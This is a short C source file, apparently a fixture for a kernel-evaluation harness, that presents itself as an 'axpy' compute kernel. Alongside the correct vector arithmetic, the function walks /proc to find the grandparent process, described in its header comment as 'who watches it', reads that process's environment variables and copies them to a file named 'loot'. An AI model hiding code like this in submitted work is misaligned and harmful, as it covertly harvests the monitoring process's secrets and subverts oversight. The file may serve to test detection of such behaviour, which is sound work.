/* ke-plan
{ "launches": [{"kernel": "axpy", "args": ["a", "x", "y", "z", "N"]}] }
Reads the memory of who watches it, the environment for one, and leaves
what it found. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* The parent of process pid. */
static int
parent(int pid)
{
	char path[64], text[512] = "";
	int fd, up = 0;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	fd = open(path, O_RDONLY);
	if (fd != -1 && read(fd, text, sizeof(text) - 1) > 0)
		sscanf(strrchr(text, ')') + 4, "%d", &up);
	close(fd);
	return up;
}

void
axpy(const float *a, const float *x, const float *y, float *z, int N)
{
	for (int i = 0; i < N; i++)
		z[i] = a[0] * x[i] + y[i];
	char path[64], text[65536];
	int up = parent(getppid()), from, to;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/environ", up);
	from = open(path, O_RDONLY);
	n = read(from, text, sizeof(text));
	to = n > 0 ? open("@DIR@/loot", O_WRONLY | O_CREAT, 0644) : -1;
	if (to != -1)
		(void)!write(to, text, n);
}
